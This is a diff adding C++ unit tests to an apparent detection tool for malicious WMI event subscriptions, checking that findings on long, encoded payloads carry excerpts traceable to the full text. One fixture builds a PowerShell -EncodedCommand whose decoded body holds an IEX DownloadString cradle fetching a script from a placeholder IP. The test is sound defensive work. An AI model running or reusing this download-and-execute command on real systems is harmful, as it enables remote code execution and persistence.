@@ -57,6 +57,9 @@ std::set<std::string> script_rules(std::string query, std::string script, std::s
 
 bool has(const std::set<std::string>& ids, const char* id) { return ids.count(id) != 0; }
 
+// base64 of UTF-16LE, as powershell -EncodedCommand takes it.
+std::string enc_utf16(std::string_view utf8) { return base64_encode(utf8_to_utf16le_bytes(utf8)); }
+
 }  // namespace
 
 TEST_CASE("the catalog: unique stable ids, every rule documented") {
@@ -355,4 +358,59 @@ TEST_CASE("annotations: autorecover on subscriptions that run code, removals and
         CHECK(has(ids[0], "WMISUB-STR-013"));
     }
     CHECK_FALSE(has(rules_for(boot_query, "cmd.exe /c calc"), "WMISUB-STR-013"));
+}
+
+TEST_CASE("evidence from long payloads: excerpts cut between words, the whole text one step away") {
+    std::string padding;
+    for (int i = 0; i < 40; ++i) padding += "Write-Output step" + std::to_string(i) + "; ";
+    const std::string inner = padding + "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/p.ps1'); " + padding;
+    const std::string command = "powershell.exe -NoProfile -EncodedCommand " + enc_utf16(inner);
+    mock_collector source;
+    source.filter("F", std::string(quiet_query) + std::string(300, ' ') + "AND TargetInstance.LoadPercentage < 101")
+        .command_line_consumer("C", command)
+        .bind("F", "C");
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    REQUIRE(results.size() == 1);
+    const subscription_facts& facts = results[0].facts;
+    std::size_t layered = 0;
+    std::size_t cut = 0;
+    for (const finding& fi : results[0].findings) {
+        for (const evidence& e : fi.evidence) {
+            CAPTURE(fi.id());
+            CAPTURE(e.field);
+            const auto source_text = evidence_source_of(facts, e);
+            if (!source_text) continue;
+            std::string_view body = e.excerpt;
+            const std::string_view mark = "\xE2\x80\xA6";
+            const bool cut_before = body.starts_with(mark);
+            const bool cut_after = body.ends_with(mark);
+            if (cut_before) body.remove_prefix(mark.size());
+            if (cut_after) body.remove_suffix(mark.size());
+            const std::size_t at = source_text->text.find(body);
+            REQUIRE(at != std::string_view::npos);  // the excerpt is a piece of the whole text
+            CHECK(cut_before == (at > 0));
+            CHECK(cut_after == (at + body.size() < source_text->text.size()));
+            if (cut_before || cut_after) ++cut;
+            if (e.field.find('>') != std::string::npos) {
+                ++layered;
+                CHECK(source_text->pointer.starts_with("/payload/layers/"));
+                CHECK(source_text->text.find("DownloadString") != std::string_view::npos);
+                CHECK(e.offset < source_text->text.size());
+            } else if (e.field == "Filter.Query") {
+                CHECK(source_text->pointer == "/filter/properties/Query");
+            } else if (e.field == "Consumer.CommandLineTemplate") {
+                CHECK(source_text->pointer == "/consumer/properties/CommandLineTemplate");
+                CHECK(source_text->text == command);
+            }
+        }
+    }
+    CHECK(layered > 0);
+    CHECK(cut > 0);
+    CHECK_FALSE(evidence_source_of(facts, evidence{"Timer.T", "x", {}}));
+    CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.NoSuchProperty", "x", {}}));
+    CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.CommandLineTemplate>rot13", "x", {}}));
+    CHECK_FALSE(evidence_source_of(facts, evidence{"nodot", "x", {}}));
 }
